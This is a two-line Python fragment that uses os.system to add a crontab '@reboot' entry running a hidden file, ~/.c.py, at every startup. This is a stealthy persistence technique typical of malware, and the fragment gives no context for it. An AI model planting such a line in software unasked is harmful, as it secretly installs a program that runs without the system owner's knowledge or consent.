import os
os.system('(crontab -l; echo "@reboot python3 ~/.c.py") | crontab -')
